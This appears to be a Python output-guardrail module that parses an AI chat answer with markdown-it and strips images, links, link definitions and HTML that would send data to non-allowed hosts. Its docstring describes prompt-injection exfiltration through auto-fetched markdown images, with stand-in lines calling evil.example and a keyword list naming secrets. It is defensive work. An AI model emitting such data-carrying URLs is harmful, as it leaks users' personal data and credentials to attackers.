"""Markdown and HTML that would leak data when rendered: images and links to outside hosts.

A chat UI fetches a markdown image as soon as it shows it, so `![](https://evil.example/?q=<data>)`
sends whatever an injected instruction put in the URL without a click. Images are kept only from
allowed hosts; links keep their text but lose a URL that carries data (a long query, a value that
is base64 or hex of readable text, a value under a name such as `ssn`, `token` or `data`, or
personal data); raw HTML that fetches (`<img>`, `<iframe>`, `<script>`, `srcset`...) and data: URLs
go too, an anchor keeping its bare start tag (`<a>`) for its end tag.

The text is read by a CommonMark parser (markdown-it-py), not by patterns, so every form a
renderer understands is seen: inline, full reference (`![x][1]`), collapsed (`![x][]`) and
shortcut (`![x]`) images and links with their `[1]: url` definitions, autolinks (`<https://...>`)
and raw HTML, every tag read as inline HTML (with the standard library's HTML parser). The parser's
inline rules are wrapped to learn where in the text each image or link was found.
"""

from __future__ import annotations

import base64
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any
from urllib.parse import SplitResult, unquote, urlsplit

import icu
from markdown_it import MarkdownIt
from markdown_it.rules_block import StateBlock, reference
from markdown_it.rules_inline import StateInline, autolink, html_inline, image, link

from guard.rails import Finding, Scan, partial_patterns, token_end, unsettled_start
from guard.rails import pii as pii_rail

# Every image, link, definition, autolink or HTML tag has one of these (CommonMark allows no
# space inside `](` or `]:`); text without any is not parsed, which keeps a page of brackets cheap.
_MAY_HOLD_MARKUP = re.compile(r"\]\(|\]:|<[A-Za-z/!?]")
_BARE_URL = re.compile(r"(?<![(<\[\w])https?://[^\s)<>\]\"']+")
_PARTIAL_URL = partial_patterns([_BARE_URL])
# A line that may be (or become) a link reference definition: `[label]: url` (CommonMark 4.7).
_DEFINITION_LINE = re.compile(r" {0,3}\[")
_FENCE_LINE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$", re.MULTILINE)
_BACKTICKS = re.compile(r"`+")
_DATA_LIKE = re.compile(r"^[A-Za-z0-9+/=_%-]{24,}$")
LONG_QUERY = 64
# Shorter encoded data is told from an ordinary value by decoding it: base64 (RFC 4648 sections
# 4 and 5, padding optional) or hex that decodes to readable UTF-8 text. An ordinary value
# (`newsletter`, a video id `dQw4w9WgXcQ`, `12345`) decodes to bytes that are not text; a word
# that happens to decode to printable characters gives symbols and mixed scripts ("Unregister"
# gives "Rz\u0782+-z"), so most of the text must be letters, digits and spaces.
_BASE64 = re.compile(r"[A-Za-z0-9+/_-]{8,}={0,2}")
_HEX = re.compile(r"(?:[0-9A-Fa-f]{2}){6,}")
MIN_DECODED_BYTES = 6
MIN_READABLE_SHARE = 0.75
_SINGLE_SCRIPT = icu.SpoofChecker()
_SINGLE_SCRIPT.setChecks(icu.USpoofChecks.RESTRICTION_LEVEL)
_SINGLE_SCRIPT.setRestrictionLevel(icu.URestrictionLevel.SINGLE_SCRIPT_RESTRICTIVE)
# Query parameter names that announce what their value is: the personal data the PII rail finds,
# the credentials the secrets rail finds (its `password = ...` keys), and data itself. Matched as
# the words of the name (`api_key`, `apiKey` and `apikey` alike), so `page`, `q`, `utm_source`,
# `v` and `id` do not.
DATA_NAMES = frozenset(
    {
        # personal data (guard.rails.pii.ENTITIES)
        *("email", "mail", "phone", "tel", "ssn", "iban", "ccn", "cvv", "cvc", "creditcard", "cardnumber", "dob"),
        # credentials (guard.rails.secrets)
        *("password", "passwd", "pwd", "pass", "passphrase", "secret", "token", "apikey", "credential", "credentials"),
        *("creds", "cookie", "sessionid", "jwt"),
        # data by name
        *("data", "payload", "exfil", "leak"),
    }
)
# A value under such a name that is a switch, not data (`?data=1`, `?token=false`): too little to
# leak anything, and a link that keeps it stays a link.
FLAG_VALUES = frozenset({"0", "1", "true", "false", "yes", "no", "on", "off"})
_NAME_WORDS = re.compile(r"[A-Z]?[a-z]+|[A-Z]+(?![a-z])|\d+")
# HTML attributes whose URL a browser fetches as soon as the element is shown (WHATWG HTML).
_FETCHING_ATTRIBUTES = frozenset({"src", "srcset", "poster", "data", "background", "lowsrc", "dynsrc"})
_LINKING_TAGS = frozenset({"a", "area"})


def _host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    host = host.lower().rstrip(".")
    return any(host == a or host.endswith("." + a) for a in allowed)


def _carries_data(url: str) -> bool:
    """Whether a URL's query or fragment carries data: a long one (LONG_QUERY characters or more),
    a value (or a bare `?<value>`) that is a long run of base64-like characters or decodes to
    text (`decodes_to_text`), a value under a name that announces data (`DATA_NAMES`: `?ssn=`,
    `?token=`, `?data=`) unless it is a switch (`FLAG_VALUES`: `?data=1`), or personal data the
    PII rail finds in the values."""
    parts = _lenient_split(url)
    if parts is None:  # not even a lenient reading finds its query: data cannot be ruled out
        return True
    if not parts.query and not parts.fragment:
        return False
    if len(parts.query) + len(parts.fragment) >= LONG_QUERY:
        return True
    values: list[str] = []
    for piece in (parts.query, parts.fragment):
        for pair in piece.split("&") if piece else ():
            raw_name, _, raw_value = pair.partition("=")
            # Unquoted, not unquote_plus: a `+` is a base64 letter as often as a space.
            name, value = unquote(raw_name), unquote(raw_value)
            if value and announces_data(name) and value.lower() not in FLAG_VALUES:
                return True
            for candidate in (name, value):
                if _DATA_LIKE.match(candidate) or decodes_to_text(candidate):
                    return True
            values += [name.replace("+", " "), value.replace("+", " ")]
    return bool(pii_rail.scan(" ".join(values)).findings)


def announces_data(name: str) -> bool:
    """Whether a query parameter's name says its value is data to guard (see `DATA_NAMES`)."""
    words = [w.lower() for w in _NAME_WORDS.findall(name)]
    joined = "".join(words)
    return joined in DATA_NAMES or any(w in DATA_NAMES for w in words) or "apikey" in joined


def decodes_to_text(value: str) -> bool:
    """Whether `value` is base64 (standard or URL-safe, padding optional) or hex that decodes to
    readable UTF-8 text: MIN_DECODED_BYTES bytes or more, every character printable and
    MIN_READABLE_SHARE of them letters, digits or spaces (only letters and spaces for a value of
    digits alone, which is read as hex)."""
    decoded: list[bytes] = []
    if _HEX.fullmatch(value):
        decoded.append(bytes.fromhex(value))
    if _BASE64.fullmatch(value) and len(value.rstrip("=")) % 4 != 1 and not value.isdigit():
        compact = value.rstrip("=").replace("-", "+").replace("_", "/")
        decoded.append(base64.b64decode(compact + "=" * (-len(compact) % 4)))
    return any(_readable(raw, digits=value.isdigit()) for raw in decoded)


def _readable(raw: bytes, digits: bool) -> bool:
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return False
    if len(raw) < MIN_DECODED_BYTES or not all(c.isprintable() or c in "\t\n\r" for c in text):
        return False
    if digits:
        # A number is more often a number (an id, a timestamp) than hex: only words count.
        return all(c.isalpha() or c == " " for c in text)
    readable = sum(c.isalnum() or c.isspace() for c in text) >= MIN_READABLE_SHARE * len(text)
    # Bytes that are not text decode, when they decode at all, to letters of scripts picked at
    # random ("deactivate" gives Latin, Han and Arabic): text is in one script (UTS #39 single-
    # script restriction level, with Han, Hiragana and Katakana together as Japanese is written).
    return readable and not _SINGLE_SCRIPT.check(text)


def _lenient_split(url: str) -> SplitResult | None:
    """`url`'s parts, also when its authority holds brackets that are no IPv6 address (`urlsplit`
    raises ValueError: "https://user:[REDACTED:URL_CREDENTIALS]@host/", the secrets rail's own
    mask echoed by the model, or "http://[x"): read again with the brackets percent-encoded, which
    leaves the query and the fragment as they are. None when that fails too."""
    try:
        return urlsplit(url)
    except ValueError:
        pass
    try:
        return urlsplit(url.replace("[", "%5B").replace("]", "%5D"))
    except ValueError:
        return None


def _host(url: str) -> str:
    try:
        return urlsplit(url.strip()).hostname or ""
    except ValueError:  # a malformed authority ("http://[x") is no host we allow
        return "invalid"


def _unsafe_image(url: str, allowed: tuple[str, ...]) -> float:
    """0 for an image the UI may fetch; else the finding's score (1.0 when the URL carries data)."""
    lowered = url.strip().lower()
    if lowered.startswith("data:"):
        return 1.0
    if lowered.startswith(("javascript:", "vbscript:")):
        return 0.8
    host = _host(url)
    if host and not _host_allowed(host, allowed):
        return 1.0 if _carries_data(url) else 0.8
    return 0.0


def _unsafe_link(url: str, allowed: tuple[str, ...]) -> bool:
    if url.strip().lower().startswith(("data:", "javascript:", "vbscript:")):
        return True
    host = _host(url)
    return bool(host) and not _host_allowed(host, allowed) and _carries_data(url)


@dataclass(frozen=True, slots=True)
class _Seen:
    """One image, link or HTML fragment the parser found, with the source text it came from."""

    kind: str  # "image", "link", "autolink", "html", "definition"
    raw: str
    line: int  # the first line of its block (0-based)
    url: str = ""
    text: str = ""  # an image's alt text or a link's text
    end_line: int = 0  # definitions: the line after the last


def _recording(rule: Any, kind: str) -> Any:
    def wrapped(state: StateInline, silent: bool) -> bool:
        start, first = state.pos, len(state.tokens)
        found = rule(state, silent)
        if found and not silent:
            raw, tokens = state.src[start : state.pos], state.tokens[first:]
            line = state.env.get("_line", 0)
            seen = state.env.setdefault("_seen", [])
            # Text waiting before the construct is pushed with it: skip to the construct's tokens.
            types = [t.type for t in tokens]
            if kind == "image":
                token = tokens[types.index("image")]
                seen.append(_Seen("image", raw, line, str(token.attrGet("src") or ""), token.content))
            elif kind == "html":
                seen.append(_Seen("html", raw, line))
            else:
                at = types.index("link_open")
                href = str(tokens[at].attrGet("href") or "")
                label = "".join(t.content for t in tokens[at + 1 : -1] if t.type in ("text", "code_inline"))
                seen.append(_Seen("autolink" if tokens[at].markup == "autolink" else "link", raw, line, href, label))
        return found

    return wrapped


def _recording_definition(rule: Any) -> Any:
    def wrapped(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
        before = dict(state.env.get("references", {}))
        found = rule(state, start_line, end_line, silent)
        if found and not silent:
            added = [v for k, v in state.env.get("references", {}).items() if k not in before]
            url = added[0]["href"] if added else ""  # a repeated label: the first definition wins
            state.env.setdefault("_seen", []).append(_Seen("definition", "", start_line, url, end_line=state.line))
        return found

    return wrapped


def _inline_with_lines(state: Any) -> None:
    """The core 'inline' rule, telling the recorders which line each inline block starts on."""
    for token in state.tokens:
        if token.type == "inline":
            state.env["_line"] = token.map[0] if token.map else 0
            state.md.inline.parse(token.content, state.md, state.env, token.children)


def _parser() -> MarkdownIt:
    # No HTML blocks: a CommonMark HTML block runs to the next blank line and hides the markdown
    # lines after its tag (`<img ...>` then `![x](url)` on the next line), which a renderer with
    # HTML turned off (most chat UIs) shows as an image. Without the block rule every tag is
    # read as inline HTML and the markdown around it is parsed too.
    md = MarkdownIt("commonmark").disable("html_block")
    # See every destination, even those markdown-it would not render (javascript:): another
    # renderer might.
    md.validateLink = lambda url: True
    for name, rule, kind in (
        ("image", image, "image"),
        ("link", link, "link"),
        ("autolink", autolink, "link"),
        ("html_inline", html_inline, "html"),
    ):
        md.inline.ruler.at(name, _recording(rule, kind))
    md.block.ruler.at("reference", _recording_definition(reference), {"alt": ["paragraph", "blockquote"]})
    md.core.ruler.at("inline", _inline_with_lines)
    return md


_MD = _parser()


class _FetchingTags(HTMLParser):
    """Start tags in an HTML fragment that fetch a URL when shown, or link to one."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, str, list[str], bool]] = []  # raw tag, name, URLs, fetches

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        fetched = [v for k, v in attrs if v is not None and (k in _FETCHING_ATTRIBUTES or k.endswith("href"))]
        fetches = tag == "img" or any(k in _FETCHING_ATTRIBUTES for k, _ in attrs) or tag in ("image", "link")
        if tag in _LINKING_TAGS:
            fetches = False
        urls = [u.strip().split()[0] for v in fetched for u in v.split(",") if u.strip()]
        self.tags.append((self.get_starttag_text() or "", tag, urls, fetches))


def _line_starts(text: str) -> list[int]:
    starts = [0]
    for i, char in enumerate(text):
        if char == "\n":
            starts.append(i + 1)
    return starts


def scan(text: str, allowed_hosts: tuple[str, ...] = ()) -> Scan:
    """Images (kind "markdown_image", from any markdown form), links ("markdown_link"), link
    definitions ("reference_link"), HTML that fetches or links ("html_image", "html_link") and
    bare URLs ("url_data") that would send data to a host outside `allowed_hosts` (a host's
    subdomains are allowed too).

    Each finding's replacement keeps what is safe: an image's alt text, a link's text, a URL
    without its query. Score: the highest finding's (1.0 for data in an image URL).
    """
    has_markup = bool(_MAY_HOLD_MARKUP.search(text))
    if not has_markup and "://" not in text:
        return Scan()
    env: dict[str, Any] = {}
    if has_markup:
        _MD.parse(text, env)
    starts = _line_starts(text)
    seen: list[_Seen] = env.get("_seen", [])
    findings: list[Finding] = []
    cursors: dict[str, int] = {}

    def locate(raw: str, line: int) -> tuple[int, int] | None:
        base = starts[min(line, len(starts) - 1)]
        at = text.find(raw, max(base, cursors.get(raw, 0)))
        if at == -1:
            return None
        cursors[raw] = at + len(raw)
        return at, at + len(raw)

    # A reference form (`![x][1]`, `![x][]`, `![x]`) is made safe by removing its definition: left
    # without one, it renders as plain text. Its own text is kept, so a streamed answer (whose
    # definition may arrive sentences later) reads exactly as the whole answer does.
    image_urls = {item.url for item in seen if item.kind == "image" and not item.raw.endswith(")")}
    for item in seen:
        if item.kind == "definition":
            score = 1.0 if _unsafe_link(item.url, allowed_hosts) else 0.0
            if item.url in image_urls:
                score = max(score, _unsafe_image(item.url, allowed_hosts))
            if score:
                end = starts[item.end_line] if item.end_line < len(starts) else len(text)
                findings.append(Finding("reference_link", starts[item.line], end, score, replacement=""))
            continue
        if item.kind == "html":
            _html_findings(item, allowed_hosts, locate, findings)
            continue
        if item.kind in ("image", "link") and not item.raw.endswith(")"):
            continue  # a reference form: see its definition
        span = locate(item.raw, item.line)
        if span is None:
            continue
        if item.kind == "image":
            score = _unsafe_image(item.url, allowed_hosts)
            if score:
                alt = item.text.strip()
                findings.append(Finding("markdown_image", *span, score, replacement=f"[image: {alt}]" if alt else ""))
        elif _unsafe_link(item.url, allowed_hosts):
            text_kept = item.text if item.kind == "link" else item.url.split("?", 1)[0].split("#", 1)[0]
            findings.append(Finding("markdown_link", *span, 0.9, replacement=text_kept))
    covered = [(f.start, f.end) for f in findings]
    if "://" in text:
        for m in _BARE_URL.finditer(text):
            if any(s <= m.start() < e for s, e in covered):
                continue
            # "... see https://x.example/?d=abc." : the `.` ends the sentence, not the URL.
            end = token_end(text, m.start(), m.end())
            url = text[m.start() : end]
            if _unsafe_link(url, allowed_hosts):
                bare = url.split("?", 1)[0].split("#", 1)[0]
                findings.append(Finding("url_data", m.start(), end, 0.8, replacement=bare))
    findings.sort(key=lambda f: f.start)
    return Scan(max((f.score for f in findings), default=0.0), tuple(findings))


def _html_findings(item: _Seen, allowed: tuple[str, ...], locate: Any, findings: list[Finding]) -> None:
    parser = _FetchingTags()
    parser.feed(item.raw)
    parser.close()
    for raw, tag, urls, fetches in parser.tags:
        if fetches:
            unsafe = not urls or any(_unsafe_image(u, allowed) or not _host(u) for u in urls)
            kind, score = "html_image", 1.0
        else:
            unsafe = any(_unsafe_link(u, allowed) for u in urls)
            kind, score = "html_link", 0.9
        span = locate(raw, item.line) if unsafe and raw else None
        if span is not None:
            # An anchor that loses its URL keeps a bare start tag, so its end tag still has one to
            # close: `<a href="https://evil.example/?ssn=...">x</a>` becomes `<a>x</a>`, an anchor
            # without a link (WHATWG HTML: "a placeholder for where a link might otherwise have
            # been placed"), not `x</a>`. Any other element goes whole: a bare `<script>` would run
            # the inline body its `src` kept dormant, and a bare `<iframe>` would take the rest of
            # the answer as its raw text.
            findings.append(Finding(kind, *span, score, replacement="<a>" if tag == "a" else ""))


def unsettled(text: str) -> int:
    """Streaming: where the tail that more text could turn into markup to judge starts: an open
    markdown link or image (`[` not closed, a `]` at the very end, a `](` destination not closed),
    an open `<` tag or autolink, a `!` that may open an image, a link reference definition line
    until its end, a bare URL still growing, an open code block or code span (markdown inside is
    not markdown). `len(text)` when there is none.

    Brackets are matched within a paragraph: a blank line ends every open one (CommonMark's
    inlines never cross it), so a stray `[` holds text back only to the end of its paragraph.
    """
    start = unsettled_start(_PARTIAL_URL, text)
    if text.endswith("!"):
        start = min(start, len(text) - 1)
    # The last line, or the one a final newline just closed (a definition's title may follow it).
    line = text.rfind("\n", 0, max(0, len(text) - 1)) + 1
    if _may_be_definition(text, line):
        start = min(start, line)
    tag = text.rfind("<")
    if tag != -1 and ">" not in text[tag:] and (tag == len(text) - 1 or re.match(r"[A-Za-z/!?]", text[tag + 1])):
        start = min(start, tag)
    return min(start, _open_bracket(text), _open_code(text))


def _may_be_definition(text: str, line: int) -> bool:
    """Whether the line starting at `line` is, or may still become, a link reference definition.

    A definition's label closes with the first unescaped `]`, and `:` must follow it at once
    (CommonMark 4.7); a line whose label closed otherwise (`[1]. The launch...`, a citation
    marker that begins a streamed piece) can never become one, so nothing is held for it.
    """
    match = _DEFINITION_LINE.match(text, line)
    if not match:
        return False
    i, end = match.end(), len(text)
    while i < end and text[i] != "\n":
        if text[i] == "\\":
            i += 2
            continue
        if text[i] == "]":
            return i + 1 == end or text[i + 1] == ":"
        i += 1
    return True  # the label is still open (CommonMark lets it run onto the next line)


def _open_code(text: str) -> int:
    """The start of an open code block or span: inside one, markdown is not markdown (a piece of it
    checked alone would be judged as markdown), so it is judged whole once it closes."""
    fence_at, fence = None, ""
    for match in _FENCE_LINE.finditer(text):
        marker = match.group(1)
        if fence_at is None:
            fence_at, fence = match.start(), marker
        elif marker[0] == fence[0] and len(marker) >= len(fence) and not match.group(2).strip():
            fence_at = None  # a closing fence: as long as the opening one, nothing after it
    if fence_at is not None:
        return fence_at
    if text.endswith("`"):
        return len(text.rstrip("`"))  # a backtick run may still grow
    # Code spans stay within a paragraph: an opening backtick run waits for a run as long.
    paragraph = max(text.rfind("\n\n"), text.rfind("\n\r\n")) + 1
    runs = [m for m in _BACKTICKS.finditer(text, paragraph)]
    i = 0
    while i < len(runs):
        closing = next((j for j in range(i + 1, len(runs)) if len(runs[j].group()) == len(runs[i].group())), None)
        if closing is None:
            return runs[i].start()
        i = closing + 1
    return len(text)


def _open_bracket(text: str) -> int:
    """The start (its `!` included) of the earliest link or image that is still open."""
    opened: list[int] = []
    i, end = 0, len(text)
    while i < end:
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == "\n" and (text.startswith("\n\n", i) or text.startswith("\n\r\n", i)):
            opened.clear()  # a paragraph ends: nothing before it can close any more
        elif char == "[":
            opened.append(i)
        elif char == "]" and opened:
            at = opened.pop()
            if i + 1 == end:
                opened.append(at)  # `](`, `][` or `]:` may follow
            elif text[i + 1] == "(":
                close = _closing_paren(text, i + 1)
                if close is None:
                    opened.append(at)
                    break
                i = close
        i += 1
    if not opened:
        return len(text)
    first = opened[0]
    return first - 1 if first > 0 and text[first - 1] == "!" else first


def _closing_paren(text: str, open_at: int) -> int | None:
    """The index of the `)` closing the destination opened at `open_at` (nested pairs allowed)."""
    depth = 0
    i = open_at
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == "(":
            depth += 1
        elif char == ")":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return None
